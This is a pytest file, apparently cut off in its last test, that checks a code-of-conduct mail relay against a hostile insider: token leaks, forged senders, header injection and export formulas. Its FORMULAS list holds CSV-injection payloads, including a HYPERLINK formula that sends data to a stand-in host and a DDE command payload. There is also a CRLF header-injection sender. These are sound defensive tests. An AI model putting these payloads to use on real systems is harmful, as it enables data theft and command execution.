"""Least disclosure against real mail and a hostile insider (issue 10), end to end over SMTP
against one real daemon on the default configuration: every check reads the delivered mail
decoded (parts, transfer encodings, charsets, HTML entities, URL escapes), never raw bytes.
Each item is tried in several forms; a fix for one example would not pass."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import re
import socket
import sqlite3
import time
from collections.abc import Iterator
from dataclasses import dataclass
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import default
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from tests import clients
from tests.helpers import ALIAS, Copy, Daemon, make_report, reads, wait_for, wire

MEMBERS: list[dict[str, Any]] = [
    {"name": "Ada Example", "email": "ada@example.net", "roles": ["operator"]},
    {"name": "Grace Sample", "email": "grace@example.net"},
    {"name": "Linus Placeholder", "email": "linus@example.net"},
    {"name": "Mallory Member", "email": "mallory@example.net"},
]
WHO = {m["email"].split("@")[0]: m for m in MEMBERS}


class Mail:
    """The Maildir outbox read as a sequence, from the moment it is made."""

    def __init__(self, d: Daemon) -> None:
        self.d = d
        self.seen = len(d.delivered())

    def next(self, count: int, timeout: float = 20) -> list[Copy]:
        want = self.seen + count
        wait_for(lambda: len(self.d.delivered()) >= want, timeout, f"{count} more copies")
        time.sleep(0.15)  # anything extra would show up now (and fail the next call)
        got = self.d.delivered()
        assert len(got) == want, f"expected {count} new copies, got {len(got) - self.seen}: " \
            + ", ".join(f"{c.to} {c['Subject']}" for c in got[self.seen:])
        new = got[self.seen:]
        self.seen = want
        return new

    def nothing_more(self, wait: float = 1.0) -> None:
        time.sleep(wait)
        extra = self.d.delivered()[self.seen:]
        assert not extra, ", ".join(f"{c.to} {c['Subject']}" for c in extra)


def body_only(copy: Copy) -> bytes:
    """The copy without the headers that carry its addressing (Reply-To, Return-Path...) and
    its DKIM signature (random base64: "via" turns up in about one signature in a hundred)."""
    msg = message_from_bytes(copy.raw, policy=default)  # a copy: the cached one stays whole
    for name in ("Reply-To", "Return-Path", "Delivered-To", "To", "From", "DKIM-Signature"):
        del msg[name]
    return msg.as_bytes()


def one(copies: list[Copy], who: str) -> Copy:
    found = [c for c in copies if c.to.split("@")[0] == who]
    assert len(found) == 1, f"{len(found)} copies for {who}: " + ", ".join(c.to for c in copies)
    return found[0]


@dataclass
class Opened:
    code: str
    address: dict[str, str]  # member -> their case address
    reporter: str  # the reporter's own address
    reporter_address: str  # conduct+r.<token>
    ack: Copy

    def token(self, who: str) -> str:
        return self.address[who].split("@")[0].rsplit(".", 1)[1]


_serial = iter(range(1, 10_000))


def new_reporter() -> str:
    return f"reporter{next(_serial)}@example.com"


def send_as(d: Daemon, who: str, address: str, body: str, subject: str = "Re: case",
            **kw: Any) -> None:
    msg = make_report(sender=f"{WHO[who]['name']} <{who}@example.net>", to=address,
                      subject=subject, body=body, **kw)
    d.send(msg, sender=f"{who}@example.net", to=[address])


def send_raw(d: Daemon, raw: bytes, who: str, address: str) -> None:
    d.send(raw, sender=f"{who}@example.net", to=[address])


def open_case(d: Daemon, mail: Mail, *, body: str = "It happened at the social.\n",
              members: int = 4, to: str = ALIAS) -> Opened:
    reporter = new_reporter()
    d.send(make_report(sender=f"Rita <{reporter}>", body=body, to=to), sender=reporter,
           to=[to])
    copies = mail.next(members + 1)
    ack = one(copies, reporter.split("@")[0])
    code = str(next(c for c in copies if c is not ack)["Subject"]).split("]")[0].strip("[")
    address = {c.to.split("@")[0]: c["Reply-To"].addresses[0].addr_spec
               for c in copies if c is not ack}
    return Opened(code, address, reporter, ack["Reply-To"].addresses[0].addr_spec, ack)


def clear_all(d: Daemon, mail: Mail, case: Opened, person: str = "Jordan Roe") -> None:
    """Ada names the person; everyone else answers /noconflict: four cleared members."""
    send_as(d, "ada", case.address["ada"], f"/involves {person}")
    mail.next(4)
    for who in ("grace", "linus", "mallory"):
        send_as(d, who, case.address[who], "/noconflict")
        mail.next(1)


@pytest.fixture(scope="module")
def d(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Daemon]:
    root = tmp_path_factory.mktemp("disclosure")
    daemon = Daemon(root, f"sqlite:///{root}/var/coc-mail.db",
                    members=[dict(m) for m in MEMBERS],
                    extra={"server": {"max_message_bytes": 26_214_400}})  # the default
    daemon.start()
    yield daemon
    daemon.stop()


@pytest.fixture
def mail(d: Daemon) -> Mail:
    return Mail(d)


# -- 1. a post never carries its author's token -------------------------------------------
def _qp_broken_inside(address: str, marker: str) -> bytes:
    """A quoted-printable body whose soft line break falls inside the address."""
    cut = address.index(".") + 6
    return (
        "From: Ada Example <ada@example.net>\r\nSubject: forwarded\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable"
        f"\r\n\r\n{marker} my address was {address[:cut]}=\r\n{address[cut:]} ok\r\n"
    ).encode()


def _html_escaped(address: str, marker: str) -> bytes:
    local, domain = address.split("@")
    entity = local.replace("+", "&#43;") + "&#64;" + domain
    url = local.replace("+", "%2B") + "%40" + domain
    msg = EmailMessage()
    msg["From"] = "Ada Example <ada@example.net>"
    msg["Subject"] = "html only"
    msg.set_content(f'<div dir="ltr"><div>{marker}</div><div>Reply-To: {entity}</div>'
                    f'<div><a href="mailto:{url}">write</a> or '
                    f'{local[:9]}<span>{local[9:]}</span>@{domain}</div></div>',
                    subtype="html", cte="base64")
    return wire(msg)


def _attached(address: str, marker: str) -> bytes:
    inner = EmailMessage()
    inner["From"] = '"Grace Sample via home shelf" <conduct@example.org>'
    inner["Reply-To"] = address
    inner["Subject"] = "[home shelf] earlier"
    inner.set_content(f"Earlier post. Reply to {address}\n", cte="base64")
    outer = EmailMessage()
    outer["From"] = "Ada Example <ada@example.net>"
    outer["Subject"] = "Fwd: earlier"
    outer.set_content(f"{marker} see attached\n", cte="quoted-printable")
    outer.add_attachment(inner)
    eml = EmailMessage()
    eml.set_content(f"Reply-To: {address}\r\n\r\nsaved copy\r\n".encode(), "application",
                    "octet-stream", filename="saved.eml")
    outer.add_attachment(eml.get_payload(decode=True), maintype="application",
                         subtype="octet-stream", filename="saved.eml")
    return wire(outer)


def _utf16(address: str, marker: str) -> bytes:
    body = base64.encodebytes(f"{marker}\r\nfrom {address}\r\n".encode("utf-16")).decode()
    return ("From: Ada Example <ada@example.net>\r\nSubject: wide\r\nMIME-Version: 1.0\r\n"
            "Content-Type: text/plain; charset=utf-16\r\nContent-Transfer-Encoding: base64"
            f"\r\n\r\n{body}").encode()


def _client_forward(client: str, address: str, marker: str, **kw: Any) -> bytes:
    quoted = clients.Quoted(
        from_name="Grace Sample via home shelf", from_addr=ALIAS,
        to="Ada Example <ada@example.net>", reply_to=address,
        date=dt.datetime(2026, 12, 1, 9, 14, tzinfo=dt.UTC), subject="[home shelf] Thoughts",
        text="What do we know so far?", message_id="<post-1@example.org>")
    return clients.forward(client, sender="Ada Example <ada@example.net>", to=address,
                           new_text=f"{marker}\nSee below.", quoted=quoted, **kw)


def test_a_post_never_carries_its_authors_token(d: Daemon, mail: Mail) -> None:
    case = open_case(d, mail)
    clear_all(d, mail, case)
    address, token = case.address["ada"], case.token("ada")
    variants: dict[str, bytes] = {
        "base64 text": wire(make_report(sender="Ada Example <ada@example.net>", to=address,
                                        body=f"MARK-b64\nwrite to {address}\n", cte="base64")),
        "quoted-printable, soft break inside": _qp_broken_inside(address, "MARK-qp"),
        "HTML entities, URL escapes, split by a tag": _html_escaped(address, "MARK-html"),
        "forwarded as attachments (rfc822, .eml)": _attached(address, "MARK-att"),
        "UTF-16": _utf16(address, "MARK-u16"),
        "Thunderbird inline forward": _client_forward("thunderbird", address, "MARK-tb"),
        "Apple Mail forward, base64": _client_forward("apple-mail", address, "MARK-apple",
                                                      encoding="base64"),
        "Outlook on the web forward": _client_forward("outlook-web", address, "MARK-owa"),
        "Gmail forward as attachment": _client_forward("gmail", address, "MARK-gm",
                                                       as_attachment=True),
    }
    for name, raw in variants.items():
        assert reads(raw, token), f"{name}: the test message must carry the token"
        send_raw(d, raw, "ada", address)
        relayed = mail.next(3)
        assert {c.to for c in relayed} == {"grace@example.net", "linus@example.net",
                                           "mallory@example.net"}, name
        for copy in relayed:
            assert not reads(copy.raw, token), f"{name}: Ada's token reached {copy.to}"
            assert not reads(copy.raw, address), name
            assert "via " + case.code in str(copy["From"])
    # The relayed text itself arrives (the redaction removes the address, not the post).
    texts = [c for c in d.delivered() if "via " + case.code in str(c["From"])]
    for mark in ("MARK-b64", "MARK-qp", "MARK-html", "MARK-att", "MARK-u16", "MARK-tb",
                 "MARK-apple", "MARK-owa", "MARK-gm"):
        assert sum(reads(c.raw, mark) for c in texts) == 3, mark


# -- 2. a reported member named by address is excluded, never asked ----------------------
@pytest.mark.parametrize("named", [
    "mallory@example.net", "Mallory Member <MALLORY@example.net>", "mailto:mallory@example.net",
    "Member, Mallory", "  mallory   MEMBER. ", "Someone Else (mallory@example.net)",
    "mallory", "Mallory M.",
])
def test_a_member_named_as_the_reported_person_is_excluded(d: Daemon, mail: Mail,
                                                           named: str) -> None:
    case = open_case(d, mail)
    send_as(d, "grace", case.address["grace"], f"/involves {named}")
    copies = mail.next(3)  # Grace's answer, the check for Ada and Linus: nothing for Mallory
    assert {c.to for c in copies} == {"grace@example.net", "ada@example.net",
                                      "linus@example.net"}, named
    assert "1 excluded" in one(copies, "grace").text
    send_as(d, "mallory", case.address["mallory"], "/noconflict")
    (refusal,) = mail.next(1)
    assert refusal.to == "mallory@example.net" and "not part of this case" in refusal.text
    assert not reads(refusal.raw, "It happened at the social")


def test_a_decoy_name_does_not_keep_the_reported_member_in(d: Daemon, mail: Mail) -> None:
    case = open_case(d, mail)
    send_as(d, "mallory", case.address["mallory"], "/involves Someone Else")
    mail.next(4)  # Mallory named a decoy and is cleared; the others are asked
    for who in ("ada", "grace"):
        send_as(d, who, case.address[who], "/noconflict")
        mail.next(1)
    send_as(d, "grace", case.address["grace"], "/involves Mallory Member")
    # Grace's answer; Ada told; Linus, still asked, asked again; the operators (Ada) told
    copies = mail.next(4)
    assert "1 member(s) excluded" in one(copies, "grace").text
    assert "Someone Else; Mallory Member" in one(copies, "linus").text
    assert all(c.to != "mallory@example.net" for c in copies)
    send_as(d, "grace", case.address["grace"], "POST-ABOUT-MALLORY")
    relayed = mail.next(1)  # to Ada only: Mallory is out
    assert [c.to for c in relayed] == ["ada@example.net"]
    send_as(d, "mallory", case.address["mallory"], "/doc")
    assert "not part of this case" in mail.next(1)[0].text


def test_no_member_can_empty_a_case_of_the_others(d: Daemon, mail: Mail) -> None:
    """The decoy fix must not become a takeover: naming one-word names of the others."""
    case = open_case(d, mail)
    send_as(d, "mallory", case.address["mallory"], "/involves Jordan Roe")
    mail.next(4)  # Mallory cleared as the namer; Ada, Grace and Linus asked
    send_as(d, "mallory", case.address["mallory"], "/involves Ada")
    copies = mail.next(4)  # Mallory's answer; Grace and Linus asked again; the operators
    for who in ("grace", "linus"):
        assert "Jordan Roe; Ada" in one(copies, who).text
    assert "excluded as possibly that person" in one(copies, "ada").text  # operator notice
    send_as(d, "mallory", case.address["mallory"], "/involves Grace")
    (refused,) = mail.next(1)
    assert "Nothing changed" in refused.text and "already kept other members out" in refused.text
    send_as(d, "grace", case.address["grace"], "/noconflict")
    mail.next(1)
    send_as(d, "grace", case.address["grace"], "/involves Mallory Member")
    mail.next(3)  # Grace's answer; Linus asked again; the operators
    send_as(d, "mallory", case.address["mallory"], "/doc")
    assert "not part of this case" in mail.next(1)[0].text
    trail = d.cli("audit", case.code).stdout
    assert "excluded: ada" in trail and "excluded: mallory" in trail


def test_long_arguments_are_refused_and_never_stall(d: Daemon, mail: Mail) -> None:
    case = open_case(d, mail)
    clear_all(d, mail, case)
    long = "R" * 40_000
    send_as(d, "mallory", case.address["mallory"], f"/conflicts {long}, {long}")
    send_as(d, "ada", case.address["ada"], f'/status resolution="{"R" * 1_000}"')
    answers = mail.next(2)
    assert "at most" in one(answers, "mallory").text and "at most" in one(answers, "ada").text
    reporter = new_reporter()
    start = time.monotonic()
    d.send(make_report(sender=f"R <{reporter}>", body="AFTER-LONG"), sender=reporter)
    assert all(reads(c.raw, "AFTER-LONG") for c in mail.next(5)[:4] if c.to != reporter)
    assert time.monotonic() - start < 5


# -- 3. follow-ups carry only what the member wrote -----------------------------------------
def _thread_post(case: Opened, who: str) -> clients.Quoted:
    return clients.Quoted(
        from_name=f"{WHO[who]['name']} via {case.code}", from_addr=ALIAS,
        to="Ada Example <ada@example.net>", reply_to=case.address["ada"],
        date=dt.datetime(2026, 12, 1, 9, 14, tzinfo=dt.UTC), subject=f"[{case.code}] Plan",
        text="THREAD-SECRET: Grace thinks it was deliberate.", message_id="<p1@example.org>")


FOLLOWUP_SHAPES = [  # test_client_mail.py tries every client, language and encoding
    ("gmail", "fr", "quoted-printable", True), ("gmail-android", "de", "base64", False),
    ("outlook", "en", "client", False), ("outlook-web", "zh", "base64", True),
    ("apple-mail", "it", "quoted-printable", False), ("ios-mail", "ja", "client", False),
    ("thunderbird", "pl", "8bit", False), ("k9", "ru", "client", False),
]


def test_a_followup_never_sends_quoted_thread_text(d: Daemon, mail: Mail) -> None:
    case = open_case(d, mail)
    clear_all(d, mail, case)
    for client, lang, encoding, html_only in FOLLOWUP_SHAPES:
        shape = f"{client}/{lang}/{encoding}{'/html' if html_only else ''}"
        raw = clients.reply(client, sender="Ada Example <ada@example.net>",
                            to=case.address["ada"], quoted=_thread_post(case, "grace"),
                            new_text="/followup followup\nThank you for writing to us.\n"
                                     f"We spoke with the organisers ({shape}).",
                            lang=lang, encoding=encoding, html_only=html_only)
        send_raw(d, raw, "ada", case.address["ada"])
        copies = mail.next(2)
        sent = one(copies, case.reporter.split("@")[0])
        assert reads(sent.raw, f"We spoke with the organisers ({shape})"), shape
        text = body_only(sent)  # the reporter's own address is in Reply-To, and only there
        for leak in ("THREAD-SECRET", "via " + case.code, "Grace", "Ada Example", "Linus",
                     case.token("ada"), "conduct+"):
            assert not reads(text, leak), (shape, leak)
        assert "Sent to the reporter" in one(copies, "ada").text


def test_a_followup_ends_at_any_line_naming_our_mail(d: Daemon, mail: Mail) -> None:
    case = open_case(d, mail)
    clear_all(d, mail, case)
    # A quote form no rule knows: only its "via <code name>" gives it away.
    send_as(d, "ada", case.address["ada"],
            f"/followup followup\nThanks.\n|| Grace Sample via {case.code.upper()} said ||\n"
            "|| THREAD-SECRET ||", cte="base64")
    copies = mail.next(2)
    sent = one(copies, case.reporter.split("@")[0])
    assert reads(sent.raw, "Thanks.") and not reads(body_only(sent), "THREAD-SECRET")
    assert not reads(body_only(sent), "via")
    assert "2 line(s) below your text were left out" in one(copies, "ada").text
    # Nothing but such lines: nothing is sent.
    send_as(d, "ada", case.address["ada"],
            f"/followup followup\nWrite to {case.address['ada']} any time.")
    (answer,) = mail.next(1)
    assert answer.to == "ada@example.net" and "Nothing was sent" in answer.text


def test_html_only_commands_on_div_lines(d: Daemon, mail: Mail) -> None:
    case = open_case(d, mail)
    clear_all(d, mail, case)
    for client in ("gmail", "outlook", "outlook-web", "apple-mail"):
        raw = clients.compose(client, sender="Ada Example <ada@example.net>",
                              to=case.address["ada"], subject="note", html_only=True,
                              text=f"/note summary\nHTML-NOTE-{client} first line\nsecond line")
        send_raw(d, raw, "ada", case.address["ada"])
        (answer,) = mail.next(1)
        assert "Added to Summary" in answer.text, (client, answer.text)
    send_as(d, "grace", case.address["grace"], "/doc")
    (doc,) = mail.next(1)
    for client in ("gmail", "outlook", "outlook-web", "apple-mail"):
        assert f"HTML-NOTE-{client} first line\nsecond line" in doc.text, client


def test_a_followup_with_a_members_address_is_refused(d: Daemon, mail: Mail) -> None:
    case = open_case(d, mail)
    clear_all(d, mail, case)
    send_as(d, "ada", case.address["ada"], "/followup followup\nThank you.\nKind regards,\n"
            "Ada Example | +1 555 0100 | ADA@example.net")
    (answer,) = mail.next(1)
    assert answer.to == "ada@example.net" and "member's address" in answer.text


# -- 4. a member's From: is one mailbox, strictly -----------------------------------------
FROM_FORMS = [
    "{m} <mallory@example.com>", "{m}, mallory@example.com", '"{m}" <mallory@example.com>',
    "=?utf-8?q?{q}?= <{m}>", "members: {m};", "Someone <{m}> (mallory@example.com)",
    "Someone <{m}", "Someone <{m}>\r\nFrom: Mallory <mallory@example.com>",
]


def test_a_from_that_is_not_one_mailbox_is_no_member(d: Daemon, mail: Mail) -> None:
    case = open_case(d, mail)
    for n, form in enumerate(FROM_FORMS):
        who = list(WHO)[n % len(WHO)]  # at most 3 "ignored" notices an hour each
        address = f"{who}@example.net"
        raw = (f"From: {form.format(m=address, q=address.replace('@', '=40'))}\r\n"
               f"To: {case.address[who]}\r\nSubject: post\r\n"
               f"Message-ID: <forged-{n}@example.com>\r\n\r\n/doc\r\n").encode()
        d.send(raw, sender="mallory@example.com", to=[case.address[who]])
        (notice,) = mail.next(1)  # not the case document: the notice that it was ignored
        assert notice.to == address and "was ignored" in notice.text, form
        assert "not one plain mailbox" in notice.text
        assert not reads(notice.raw, "It happened at the social")


# -- 5. only copies that went to the reporter route replies into a case --------------------
def test_holding_a_members_message_id_opens_a_new_case(d: Daemon, mail: Mail) -> None:
    case = open_case(d, mail)
    send_as(d, "ada", case.address["ada"], "/involves Jordan Roe")
    check = mail.next(4)
    ids = {c.to.split("@")[0]: str(c["Message-ID"]) for c in check}
    before = len(d.cli("cases").stdout.splitlines())
    for n, (header, value) in enumerate([
        ("In-Reply-To", ids["mallory"]),
        ("References", f"<unrelated@example.com> {ids['linus']} <other@example.com>"),
        ("In-Reply-To", ids["ada"]),
    ]):
        someone = new_reporter()  # whoever holds the ID: a conflicted member, say
        d.send(make_report(sender=f"Rita <{someone}>", body=f"INJECTED-{n}",
                           **{header.replace("-", "_"): value}), sender=someone)
        copies = mail.next(5)  # a new case: four members and an acknowledgment
        assert all(f"[{case.code}]" not in str(c["Subject"]) for c in copies)
    assert len(d.cli("cases").stdout.splitlines()) == before + 3
    # The reporter's own reply to the acknowledgment still reaches the case.
    d.send(make_report(sender=f"Rita <{case.reporter}>", body="MORE-FROM-RITA",
                       In_Reply_To=str(case.ack["Message-ID"])), sender=case.reporter)
    (copy,) = mail.next(1)  # to the cleared members: Ada, who named the person
    assert copy.to == "ada@example.net" and f"[{case.code}]" in str(copy["Subject"])
    assert reads(copy.raw, "MORE-FROM-RITA")


def test_case_mail_sent_to_the_alias_opens_no_case(d: Daemon, mail: Mail) -> None:
    """A member forwarding a thread post to the committee address, a bounce or an
    out-of-office reply quoting our copy: as new reports they would reach every member,
    conflicted ones too. None opens a case."""
    case = open_case(d, mail)
    clear_all(d, mail, case)
    send_as(d, "mallory", case.address["mallory"], "/recuse")
    mail.next(1)
    send_as(d, "grace", case.address["grace"], "THREAD-SECRET-9 what we know")
    relayed = mail.next(2)
    post = one(relayed, "ada")
    before = d.cli("cases").stdout.count("\n")
    quoted = clients.Quoted(
        from_name=str(post["From"].addresses[0].display_name), from_addr=ALIAS,
        to="Ada Example <ada@example.net>", reply_to=case.address["ada"],
        date=dt.datetime(2026, 12, 1, 9, 14, tzinfo=dt.UTC), subject=str(post["Subject"]),
        text="THREAD-SECRET-9 what we know", message_id=str(post["Message-ID"]))
    forwards: list[tuple[str, str, dict[str, Any]]] = [
        ("ada", "gmail", {}), ("linus", "apple-mail", {}),
        ("ada", "thunderbird", {"as_attachment": True}), ("linus", "outlook", {"html_only": True})]
    notices = 0
    for who, client, kw in forwards:
        raw = clients.forward(client, sender=f"{WHO[who]['name']} <{who}@example.net>",
                              to=ALIAS, new_text="Please look at this.", quoted=quoted, **kw)
        send_raw(d, raw, who, ALIAS)
        time.sleep(0.8)
        new = d.delivered()[mail.seen:]  # the forwarder's notice (three an hour at most)
        assert all(c.to == f"{who}@example.net" and "was not sent on" in c.text
                   for c in new), client
        notices += len(new)
        mail.seen += len(new)
    assert notices
    # A bounce of Linus's copy, sent to the From: (the alias) instead of the bounce address.
    linus = one(relayed, "linus")
    dsn = _dsn(ALIAS).replace(b"--B--\r\n", b"--B\r\nContent-Type: text/rfc822-headers\r\n\r\n"
                              + f"Message-ID: {linus['Message-ID']}\r\n".encode()
                              + b"Subject: THREAD-SECRET-9\r\n\r\n--B--\r\n")
    d.send(dsn, sender="", to=[ALIAS])
    (bounced,) = mail.next(1)
    assert bounced.to == "ada@example.net" and "bounced" in str(bounced["Subject"])
    assert not reads(bounced.raw, "THREAD-SECRET-9")
    # An out-of-office reply quoting the post, to the alias, naming nothing.
    ooo = make_report(sender="Linus <linus-home@example.org>", subject="Out of office",
                      body=f"I am away.\n> From: {post['From']}\n> THREAD-SECRET-9",
                      Auto_Submitted="auto-replied")
    d.send(ooo, sender="linus-home@example.org")
    mail.nothing_more()
    assert d.cli("cases").stdout.count("\n") == before


def test_case_mail_from_elsewhere_goes_to_the_case_only(d: Daemon, mail: Mail) -> None:
    """A member forwarding a thread post from another address (or a display name that is an
    address), a bounce with a real envelope sender: no new case; the case's own members (not
    the conflicted one) get what quotes the case, without our addresses."""
    case = open_case(d, mail)
    send_as(d, "ada", case.address["ada"], "/involves Jordan Roe")
    mail.next(4)
    for who in ("grace", "linus"):
        send_as(d, who, case.address[who], "/noconflict")
        mail.next(1)
    send_as(d, "mallory", case.address["mallory"], "/conflict")
    mail.next(1)
    send_as(d, "grace", case.address["grace"], "THREAD-SECRET-12 plan")
    relayed = mail.next(2)
    post = one(relayed, "ada")
    before = d.cli("cases").stdout.count("\n")
    quoted = clients.Quoted(
        from_name=str(post["From"].addresses[0].display_name), from_addr=ALIAS,
        to="Ada Example <ada@example.net>", reply_to=case.address["ada"],
        date=dt.datetime(2026, 12, 1, 9, 14, tzinfo=dt.UTC), subject=str(post["Subject"]),
        text="THREAD-SECRET-12 plan", message_id="<other@example.com>")
    for sender, as_attachment in (("Ada <ada.home@example.com>", False),
                                  ('"ada@example.net" <ada@example.net>', True)):
        raw = clients.forward("thunderbird", sender=sender, to=ALIAS, new_text="FYI",
                              quoted=quoted, as_attachment=as_attachment)
        d.send(raw, sender="ada.home@example.com")
        copies = mail.next(3)  # the members receiving the case: Ada, Grace, Linus
        assert {c.to.split("@")[0] for c in copies} == {"ada", "grace", "linus"}, sender
        for c in copies:  # (each copy's own Reply-To is its reader's own case address)
            who = c.to.split("@")[0]
            assert reads(c.raw, "THREAD-SECRET-12") and "quotes mail of case" in c.text
            assert not any(reads(c.raw, case.token(x)) for x in ("ada", "grace", "linus")
                           if x != who), who
    dsn = _dsn(ALIAS).replace(b"--B--\r\n", b"--B\r\nContent-Type: message/rfc822\r\n\r\n"
                              + f"Message-ID: {post['Message-ID']}\r\n".encode()
                              + b"Subject: THREAD-SECRET-12\r\n\r\nx\r\n--B--\r\n")
    d.send(dsn, sender="postmaster@example.net")
    (notice,) = mail.next(1)
    assert notice.to == "ada@example.net" and "bounced" in str(notice["Subject"])
    assert d.cli("cases").stdout.count("\n") == before
    assert not any(reads(c.raw, "THREAD-SECRET-12") for c in d.delivered()
                   if c.to == "mallory@example.net")


def test_a_message_that_fails_in_the_database_never_stalls_the_next(d: Daemon,
                                                                     mail: Mail) -> None:
    """One message counting the same thing twice (a bad From to two of a member's case
    addresses), and a Message-ID with a NUL byte: the next report still goes through."""
    one_case, other = open_case(d, mail), open_case(d, mail)
    raw = (b"From: Grace Sample <grace@example.net>, Someone <x@example.com>\r\n"
           b"Subject: two\r\nIn-Reply-To: <a\x00b@example.com>\r\n\r\n/doc\r\n")
    d.send(raw, sender="x@example.com", to=[one_case.address["grace"], other.address["grace"]])
    d.send(b"From: x@example.com\r\nSubject: nul\r\nIn-Reply-To: <a\x00b@example.com>\r\n"
           b"\r\nhello\r\n", sender="x@example.com")
    reporter = new_reporter()
    d.send(make_report(sender=f"R <{reporter}>", body="AFTER-THE-BAD-ONES"), sender=reporter)
    wait_for(lambda: sum(reads(c.raw, "AFTER-THE-BAD-ONES") for c in d.delivered()) >= 4, 15,
             "the next report")
    time.sleep(0.5)
    mail.seen = len(d.delivered())


def test_a_reporter_address_is_not_a_way_in(d: Daemon, mail: Mail) -> None:
    case = open_case(d, mail)
    # A member writing "as the reporter": not forwarded, told to use /followup.
    d.send(make_report(sender=f"Rita <{case.reporter}>", to=case.reporter_address)
           .as_bytes().replace(f"From: Rita <{case.reporter}>".encode(),
                               b"From: Mallory Member <mallory@example.net>"),
           sender="mallory@example.net", to=[case.reporter_address])
    (notice,) = mail.next(1)
    assert notice.to == "mallory@example.net" and "/followup" in notice.text
    # A member with the reporter's From: (her own envelope sender): not forwarded either.
    d.send(make_report(sender=f"Rita <{case.reporter}>", to=case.reporter_address,
                       body="FORGED-BY-MALLORY-7"), sender="mallory@example.net",
           to=[case.reporter_address])
    time.sleep(0.8)
    new = d.delivered()[mail.seen:]  # at most the notice to Mallory (three an hour)
    assert all(c.to == "mallory@example.net" and "/followup" in c.text for c in new)
    mail.seen = len(d.delivered())
    assert not any(reads(c.raw, "FORGED-BY-MALLORY-7") for c in d.delivered())
    # Anyone else: forwarded, flagged as not from the reporter's address.
    d.send(make_report(sender="Someone <someone@evil.example>", to=case.reporter_address,
                       body="I WITHDRAW"), sender="someone@evil.example",
           to=[case.reporter_address])
    copies = mail.next(4)
    assert all("may not be from the reporter" in c.text for c in copies)


# -- 6. no single member can make a report disappear --------------------------------------
def test_discard_needs_a_second_member(d: Daemon, mail: Mail) -> None:
    case = open_case(d, mail)
    send_as(d, "mallory", case.address["mallory"], "/discard")
    told = mail.next(4)  # Mallory's answer; Ada, Grace and Linus are told
    assert "marked for discarding" in one(told, "mallory").text
    for who in ("ada", "grace", "linus"):
        assert "Mallory Member asked to discard" in one(told, who).text
    send_as(d, "mallory", case.address["mallory"], "/discard")
    assert "second member" in mail.next(1)[0].text
    # The case is still there: the reporter writes again and the members get it.
    d.send(make_report(sender=f"Rita <{case.reporter}>", to=case.reporter_address,
                       body="STILL-HERE"), sender=case.reporter, to=[case.reporter_address])
    assert all(reads(c.raw, "STILL-HERE") for c in mail.next(4))
    send_as(d, "grace", case.address["grace"], "/discard")
    done = mail.next(4)
    assert "is discarded" in one(done, "grace").text
    assert case.code not in d.cli("cases").stdout
    # An operator can discard a New case alone, from the command line.
    other = open_case(d, mail)
    out = d.cli("discard", other.code.replace(" ", "-")).stdout
    assert "discarded" in out and other.code not in d.cli("cases").stdout
    assert all("discarded" in c.text for c in mail.next(4))
    trail = d.cli("audit", other.code).stdout
    assert "operator" in trail and "case discarded" in trail


# -- 7. auto-replies, bounces and DSNs ------------------------------------------------------
AUTO_REPLIES = [
    {"Auto_Submitted": "auto-replied"},
    {"X_Autoreply": "yes"},
    {"Precedence": "auto_reply"},
    {"X_Auto_Response_Suppress": "All", "_subject": "Automatic reply: [x] Plan"},
    {"X_Auto_Response_Suppress": "All", "_subject": "Automatische Antwort: [x] Plan"},
    {"X_Auto_Response_Suppress": "All", "_subject": "Автоматический ответ: [x]"},
    {"X_Auto_Response_Suppress": "All", "_subject": "Resposta automática: [x] Plan"},
    {"X_Autorespond": "Out of office", "_subject": "Abwesenheitsnotiz"},
    {"_null_sender": "1"},
]


def test_auto_replies_are_never_relayed_or_answered(d: Daemon, mail: Mail) -> None:
    case = open_case(d, mail)
    clear_all(d, mail, case)
    grace_copy = d.delivered()[-1]
    bounce = str(grace_copy["Return-Path"]).strip("<>")
    for n, headers in enumerate(AUTO_REPLIES):
        headers = dict(headers)
        subject = headers.pop("_subject", "Out of office")
        null = headers.pop("_null_sender", "")
        msg = make_report(sender="Ada Example <ada@example.net>", to=case.address["ada"],
                          subject=subject, body=f"I am away (OOF-{n}).", **headers)
        d.send(msg, sender="" if null else "ada@example.net", to=[case.address["ada"]])
        msg.replace_header("To", bounce)
        d.send(msg, sender="" if null else "ada@example.net", to=[bounce])
    mail.nothing_more(1.5)  # nothing relayed, nothing answered, no "a copy bounced"


def _dsn(bounce: str, action: str = "failed") -> bytes:
    return (
        b"From: MAILER-DAEMON@example.net\r\nTo: " + bounce.encode() + b"\r\n"
        b"Subject: Undelivered Mail\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/report; report-type=delivery-status; boundary="B"\r\n\r\n'
        b"--B\r\nContent-Type: text/plain\r\n\r\nfailed\r\n"
        b"--B\r\nContent-Type: message/delivery-status\r\n\r\n"
        b"Reporting-MTA: dns; mx.example.net\r\n\r\n"
        b"Final-Recipient: rfc822; grace@example.net\r\nAction: " + action.encode() +
        b"\r\nStatus: 5.1.1\r\n\r\n--B--\r\n")


def test_a_bounce_is_told_once_and_only_for_a_real_failure(d: Daemon, mail: Mail) -> None:
    open_case(d, mail)
    grace = next(c for c in reversed(d.delivered()) if c.to == "grace@example.net")
    bounce = str(grace["Return-Path"]).strip("<>")
    d.send(_dsn(bounce, "delayed"), sender="", to=[bounce])
    mail.nothing_more()
    for _ in range(3):
        d.send(_dsn(bounce), sender="", to=[bounce])
    (notice,) = mail.next(1)
    assert notice.to == "ada@example.net" and "5.1.1" in notice.text
    mail.nothing_more()
    # 1,200 nested messages at the bounce address: set aside, never a RecursionError.
    nested = (b"From: a@example.com\r\nContent-Type: message/rfc822\r\n\r\n" * 1200
              + b"\r\nend\r\n")
    d.send(nested, sender="", to=[bounce])
    (aside,) = mail.next(1)
    assert "set aside" in str(aside["Subject"]) and "nested more than" in aside.text


# -- 8. exports never hold a live formula -----------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1", "＝1+1"]


def test_status_exports_neutralise_formulas(d: Daemon, mail: Mail, tmp_path: Path) -> None:
    """Two formulas set by mail, exported by the CLI (every form of formula is tried against
    the export code in tests/cases/test_rules.py)."""
    case = open_case(d, mail)
    clear_all(d, mail, case)
